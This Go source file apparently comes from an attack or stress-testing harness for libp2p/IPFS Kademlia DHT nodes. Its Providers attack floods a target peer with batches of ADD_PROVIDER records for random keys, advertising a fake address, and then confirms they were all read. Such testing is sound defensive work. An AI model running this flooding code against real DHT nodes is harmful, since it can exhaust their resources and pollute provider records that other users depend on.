package attacker

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"

	pb "github.com/libp2p/go-libp2p-kad-dht/pb"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/multiformats/go-multiaddr"
	"github.com/multiformats/go-multihash"
	"google.golang.org/protobuf/proto"
)

// dhtProtocols are those of a DHT on the local network, and on others.
var dhtProtocols = []protocol.ID{"/ipfs/lan/kad/1.0.0", "/ipfs/kad/1.0.0"}

const recordsAtOnce = 256 // on one stream

// Providers says of keys that nobody has asked for that it provides them. Did counts
// streams whose recordsAtOnce records were all taken.
func Providers(t Target) Attack {
	return func(ctx context.Context, p *Peer, tally *Tally) {
		again(ctx, 2, tally, func(ctx context.Context) error { return p.provide(ctx, t, recordsAtOnce) })
	}
}

// provide ends with a question that is answered only after all records were read.
func (p *Peer) provide(ctx context.Context, t Target, n int) error {
	if p.host == nil {
		return ErrStranger
	}
	s, err := p.host.NewStream(ctx, t.Peer.ID, dhtProtocols...)
	if err != nil {
		return fmt.Errorf("provide: %w", err)
	}
	defer func() { _ = s.Reset() }()
	defer context.AfterFunc(ctx, func() { _ = s.Reset() })()
	self := peer.AddrInfo{ID: p.ID(), Addrs: []multiaddr.Multiaddr{multiaddr.StringCast("/ip4/10.9.8.7/tcp/4619")}}
	for range n {
		key, err := randomHash()
		if err != nil {
			return err
		}
		m := pb.NewMessage(pb.Message_ADD_PROVIDER, key, 0)
		m.ProviderPeers = pb.RawPeerInfosToPBPeers([]peer.AddrInfo{self})
		if err := writeProto(s, m); err != nil {
			return err
		}
	}
	if err := writeProto(s, pb.NewMessage(pb.Message_PING, nil, 0)); err != nil {
		return err
	}
	_, err = s.Read(make([]byte, binary.MaxVarintLen64))
	return err
}

func writeProto(w io.Writer, m proto.Message) error {
	b, err := proto.Marshal(m)
	if err != nil {
		return err
	}
	return WriteFrame(w, b)
}

// randomHash is a multihash of bytes that nobody has.
func randomHash() (multihash.Multihash, error) {
	var b [32]byte
	_, _ = rand.Read(b[:]) // it never fails
	return multihash.Encode(b[:], multihash.SHA2_256)
}
